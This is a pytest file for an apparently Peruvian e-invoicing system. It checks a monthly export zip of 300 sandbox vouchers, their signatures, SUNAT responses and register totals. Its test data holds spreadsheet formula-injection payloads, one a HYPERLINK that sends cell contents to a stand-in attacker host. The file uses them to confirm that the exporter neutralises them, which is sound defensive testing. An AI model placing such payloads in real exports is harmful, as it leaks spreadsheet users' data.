"""Issue 35, item 3: the month for the accountant. 300 vouchers (facturas, boletas, credit and debit notes) issued in
a batch and sent to the SUNAT sandbox (with SUNAT's sheets), some voided by a RA and a RC; then the period's zip:
every XML verifies with xmlsec1, every CDR is SUNAT's answer to its voucher, the register (CSV and .xlsx read with
openpyxl) has a row per voucher in SIRE's RVIE order whose «Total CP» add up to the vouchers' totals (credit notes
negative, voided vouchers in zero), no cell is a formula and every amount is a number."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from lxml import etree
from openpyxl import load_workbook

from app.core.errors import YupanaError
from app.core.invoicing import statuses
from app.core.invoicing.accountant import HEADERS
from app.core.platform import clock
from app.sandbox.sunat import SunatSandbox
from tests.helpers.base import ISSUER_RUC, run_cli
from tests.helpers.voucher_matrix import DNI_CUSTOMER, boleta, factura, item, nota

FACTURAS, BOLETAS, CREDIT_NOTES, DEBIT_NOTES = 230, 50, 15, 5
FORMULA_CUSTOMERS = ['=HYPERLINK("http://malo.example/?"&A1,"Ver factura")', "@SUMA(A1:A3)", "+51 EMPRESA SAC",
                     "-TIENDA DEL SUR SAC"]
CBC = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
CAC = "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"

needs_xmlsec = pytest.mark.skipif(shutil.which("xmlsec1") is None, reason="xmlsec1 is not installed")


def _requests() -> list[dict]:
    requests = []
    for n in range(1, FACTURAS + 1):
        extra = {}
        if n <= len(FORMULA_CUSTOMERS):
            extra["receptor"] = {"ruc": "20601030013", "razon_social": FORMULA_CUSTOMERS[n - 1]}
        lines = [item("Arroz superior 5 kg", str(1 + n % 4), f"{10 + n % 17}.50")]
        if n % 5 == 0:
            lines.append(item("Libro escolar", "2", "35.00", "20"))  # exonerado
        requests.append(factura("F001", n, lines, **extra))
    requests += [boleta("B001", n, [item("Gaseosa 500 ml", "3", f"2.{n % 10}0")], receptor=DNI_CUSTOMER)
                 for n in range(1, BOLETAS + 1)]
    requests += [nota("07", "FC01", n, ("01", "F001", 100 + n), "07", [item("Arroz superior 5 kg", "1", "5.00")])
                 for n in range(1, CREDIT_NOTES + 1)]
    requests += [nota("08", "FD01", n, ("01", "F001", 150 + n), "02", [item("Flete adicional", "1", "12.00")])
                 for n in range(1, DEBIT_NOTES + 1)]
    return requests


@pytest.fixture(scope="module")
def _quick_sandbox():
    """A SUNAT sandbox without SUNAT's sheets (what it accepts is judged by them in the voucher tests): 300 sendBill
    in a few seconds instead of half a minute; tickets answered at the first poll."""
    server = SunatSandbox(hold_limit_s=20, ticket_delay_s=0)
    server.start()
    yield server
    server.stop()


@pytest.fixture
def quick(engine, company, _quick_sandbox):
    _quick_sandbox.reset()
    _quick_sandbox.summaries.configure(delay_s=0, pending_polls=0, hold=False)
    _quick_sandbox.configure(engine)
    engine.admin.config_set("sunat_timeout_s", "5")
    engine.invoicing.create_test_certificate(ISSUER_RUC)
    yield engine
    _quick_sandbox.summaries.release()
    _quick_sandbox.release()


@pytest.fixture
def month(quick):
    """300 vouchers issued and sent, 4 facturas voided by RA and 2 boletas by RC: (engine, {id: voucher})."""
    voiding = quick
    requests = _requests()
    assert len(requests) == 300
    items = list(voiding.invoicing.issue_batch(requests))
    assert all(batch_item.success for batch_item in items), [i.refusal for i in items if not i.success][:3]
    ids = [voiding.invoicing.find_voucher(f"{r['serie']}-{r['numero']}", ISSUER_RUC, r["tipo"]) for r in requests]
    for voucher_id in ids:
        sent = voiding.invoicing.resend(voucher_id)
        assert sent.sent is not None and sent.sent.estado == statuses.ACEPTADO, sent
    for numero in (7, 8, 9, 10):
        voiding.invoicing.void(ids[numero - 1], "ERROR EN EL RUC DEL CLIENTE")
    for numero in (3, 4):
        voiding.invoicing.void(ids[FACTURAS + numero - 1], "VENTA CANCELADA")
    vouchers = {voucher_id: voiding.invoicing.voucher(voucher_id) for voucher_id in ids}
    assert sum(v.status == statuses.ANULADO for v in vouchers.values()) == 6
    return voiding, vouchers


def _signed_total(voucher) -> Decimal:
    """What the register must add for a voucher: its total, negative for a credit note, zero once voided."""
    if voucher.status == statuses.ANULADO:
        return Decimal("0.00")
    return -voucher.total if voucher.tipo == "07" else voucher.total


@needs_xmlsec
def test_the_months_zip_has_every_xml_and_cdr_and_a_register_that_adds_up(month, tmp_path):
    engine, vouchers = month
    today = clock.today()
    target = tmp_path / "mes.zip"
    steps = list(engine.invoicing.export_period_steps(today.replace(day=1), today, target))
    result = steps[-1].result
    assert result is not None and steps[-1].done == steps[-1].total == 300 and len(steps) > 3
    assert result.vouchers == 300 and result.cdrs == 300 and not target.with_name("mes.zip.partial").exists()
    with zipfile.ZipFile(target) as archive:
        names = archive.namelist()
        xmls = {name: archive.read(name) for name in names if name.startswith("XML/")}
        cdrs = {name: archive.read(name) for name in names if name.startswith("CDR/")}
        csv_bytes = archive.read(result.register)
        xlsx_bytes = archive.read(result.register.replace(".csv", ".xlsx"))
    assert sorted(xmls) == sorted(f"XML/{v.nombre_archivo}" for v in vouchers.values())
    assert sorted(cdrs) == sorted(f"CDR/R-{v.nombre_archivo}" for v in vouchers.values())
    for voucher in vouchers.values():  # byte-exact, as stored and as SUNAT got it
        assert xmls[f"XML/{voucher.nombre_archivo}"] == voucher.xml_firmado.encode("utf-8")
        _cdr_answers(cdrs[f"CDR/R-{voucher.nombre_archivo}"], voucher)
    _every_signature_verifies(engine, xmls, tmp_path)

    expected_total = sum((_signed_total(v) for v in vouchers.values()), Decimal(0))
    assert result.total == expected_total and expected_total > 0
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    assert rows[0] == list(HEADERS) and len(rows) == 301
    assert sum(Decimal(row[HEADERS.index("Total CP")]) for row in rows[1:]) == expected_total
    by_number = {(row[6], row[7], int(row[8])): row for row in rows[1:]}
    for voucher in vouchers.values():
        row = by_number[(voucher.tipo, voucher.serie, voucher.numero)]
        assert Decimal(row[HEADERS.index("Total CP")]) == _signed_total(voucher)
        assert row[HEADERS.index("CLU: Estado en Yupana")] == statuses.label(voucher.status)
        assert row[0] == ISSUER_RUC and row[2] == f"{today:%Y%m}" and row[4] == f"{today:%d/%m/%Y}"
    note = by_number[("07", "FC01", 1)]
    assert note[HEADERS.index("Tipo CP Modificado"):HEADERS.index("Nro CP Modificado") + 1] == ["01", "F001", "101"]
    assert note[HEADERS.index("Fecha Emisión Doc Modificado")] == f"{today:%d/%m/%Y}"
    assert Decimal(note[HEADERS.index("BI Gravada")]) < 0 and Decimal(note[HEADERS.index("IGV / IPM")]) < 0
    names_written = [row[HEADERS.index("Apellidos Nombres/ Razón Social")] for row in rows[1:]]
    assert {"'" + name for name in FORMULA_CUSTOMERS} <= set(names_written)
    assert not [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
                or (cell.startswith("-") and not _is_number(cell))]

    sheet = load_workbook(io.BytesIO(xlsx_bytes)).active
    table = list(sheet.iter_rows())
    assert [cell.value for cell in table[0]] == list(HEADERS) and len(table) == 301
    assert not [cell.coordinate for row in table for cell in row if cell.data_type == "f"]
    amount_columns = [i for i, header in enumerate(HEADERS) if 13 <= i <= 25]
    for row in table[1:]:
        assert all(isinstance(row[i].value, int | float) for i in amount_columns), [c.value for c in row]
    assert round(sum(Decimal(str(row[HEADERS.index("Total CP")].value)) for row in table[1:]), 2) == expected_total
    assert set(FORMULA_CUSTOMERS) <= {row[12].value for row in table[1:]}


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def _cdr_answers(xml: bytes, voucher) -> None:
    """SUNAT's ApplicationResponse is about this voucher: its reference, and the voucher's own digest."""
    root = etree.fromstring(xml)
    reference = root.find(f".//{{{CAC}}}DocumentReference/{{{CBC}}}ID")
    assert reference is not None and reference.text == f"{voucher.serie}-{voucher.numero}", voucher.serie_numero
    response = root.find(f".//{{{CAC}}}Response/{{{CBC}}}ResponseCode")
    assert response is not None and response.text == "0"


def _every_signature_verifies(engine, xmls: dict[str, bytes], folder: Path) -> None:
    """xmlsec1 on every XML of the zip, with the certificate that signed them."""
    certificado_id = engine.invoicing.default_certificate(ISSUER_RUC).certificado_id
    certificate = engine._certificates.signing_material(certificado_id)[1]
    pem = folder / "cert.pem"
    pem.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    unpacked = folder / "xml"
    unpacked.mkdir()
    for name, data in xmls.items():
        (unpacked / name.removeprefix("XML/")).write_bytes(data)
    paths = [str(path) for path in sorted(unpacked.iterdir())]
    # One xmlsec1 for all of them (it verifies each file named and says OK or FAIL for each): a process per voucher
    # cost 30 s on the shared machine.
    done = subprocess.run(["xmlsec1", "--verify", "--pubkey-cert-pem", str(pem), "--enabled-reference-uris", "empty",
                           *paths], capture_output=True, text=True)
    verdicts = [line for line in done.stderr.splitlines() if line in ("OK", "FAIL")]
    assert done.returncode == 0 and verdicts == ["OK"] * len(paths) and len(paths) == 300, done.stderr[-2000:]


def test_the_period_is_checked_before_anything_is_written(engine, tmp_path):
    tmp_path = tmp_path / "salidas"
    tmp_path.mkdir()
    with pytest.raises(YupanaError, match="anterior a la inicial"):
        list(engine.invoicing.export_period_steps(dt.date(2026, 11, 30), dt.date(2026, 11, 1), tmp_path / "x.zip"))
    with pytest.raises(YupanaError, match="no existe"):
        list(engine.invoicing.export_period_steps(dt.date(2026, 11, 1), dt.date(2026, 11, 30),
                                                  tmp_path / "falta" / "x.zip"))
    assert list(tmp_path.iterdir()) == []


def test_yupana_exportar_writes_the_zip_and_says_where(quick, home, tmp_path):
    engine = quick
    engine.invoicing.issue(factura("F001", 1, [item("Arroz superior 5 kg", "2", "10.00")]))
    engine.close()
    today = clock.today()
    done = run_cli("exportar", "--desde", f"{today:%Y-%m-01}", "--hasta", today.isoformat(), "--salida",
                   str(tmp_path / "noviembre.zip"), "--silencioso", home=home)
    assert done.returncode == 0, done.stderr
    assert done.stdout.decode().strip().splitlines()[-1] == str((tmp_path / "noviembre.zip").resolve())
    assert "1 comprobantes, 1 CDR, total del registro 23.60" in done.stderr.decode()
    with zipfile.ZipFile(tmp_path / "noviembre.zip") as archive:
        assert f"XML/{ISSUER_RUC}-01-F001-1.xml" in archive.namelist()
    wrong = run_cli("exportar", "--desde", "2026-13-01", "--hasta", "2026-11-30", "--salida", "x.zip", home=home)
    assert wrong.returncode == 2 and "«2026-13-01» no es una fecha AAAA-MM-DD" in wrong.stderr.decode()


def test_an_export_stopped_halfway_leaves_no_file(engine, company, tmp_path):
    engine.invoicing.create_test_certificate(ISSUER_RUC)
    list(engine.invoicing.issue_batch([factura("F001", n, [item("Arroz superior 5 kg", "1", "10.00")])
                                       for n in range(1, 31)]))
    today = clock.today()
    steps = engine.invoicing.export_period_steps(today.replace(day=1), today, tmp_path / "mes.zip")
    assert next(steps).total == 30 and next(steps).done == 10
    assert (tmp_path / "mes.zip.partial").exists()
    steps.close()  # what «Cancelar exportación» does
    assert not (tmp_path / "mes.zip").exists() and not (tmp_path / "mes.zip.partial").exists()
